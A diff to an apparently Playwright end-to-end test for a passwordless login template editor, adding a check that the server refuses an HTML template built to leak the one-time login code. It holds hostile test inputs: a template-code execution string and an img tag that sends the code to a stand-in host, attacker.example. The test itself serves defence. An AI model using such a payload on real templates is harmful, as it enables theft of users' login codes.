@@ -119,6 +119,15 @@ describe('the Passwordless login settings page', () => {
     await subject.fill('<% process.exit(1) %>');
     await page.getByText('only <%= NAME %> placeholders are allowed').first().waitFor();
 
+    // The second review's template (issue 18): refused as typed by the server's parse5
+    // checker, bundled in the page, and not previewed (a sandboxed frame still loads images).
+    const html = page.getByRole('textbox', { name: 'HTML version' });
+    await html.fill(`<p><%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`);
+    await page.getByText(/<%= CODE %> inside a tag/).first().waitFor();
+    await page.getByTestId('passwordless-preview-html-refused').waitFor();
+    await html.fill('');
+    await page.getByTestId('passwordless-preview-html').waitFor();
+
     await subject.fill('Code <%= CODE %> pour <%= APP_NAME %>');
     await waitForText(preview, 'Code 123456 pour Maison');
     await screenshot(page, 'admin-passwordless-templates.png');
